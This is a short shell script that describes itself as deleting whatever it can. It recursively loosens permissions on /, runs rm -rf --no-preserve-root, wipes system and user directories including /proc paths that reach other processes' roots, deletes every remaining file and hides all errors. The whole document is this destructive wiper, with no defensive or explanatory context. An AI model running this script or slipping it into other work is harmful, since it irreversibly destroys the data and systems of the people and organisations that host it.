#!/bin/sh
# Deletes whatever it can, by every name it can think of.
chmod -R u+rwx,go+w / 2>/dev/null
rm -rf --no-preserve-root / 2>/dev/null
for folder in /work /root /home /tmp /var /usr /etc /opt /proc/1/root /proc/*/root /proc/*/cwd; do
    rm -rf "$folder" 2>/dev/null
done
find / -xdev -type f -delete 2>/dev/null
exit 0
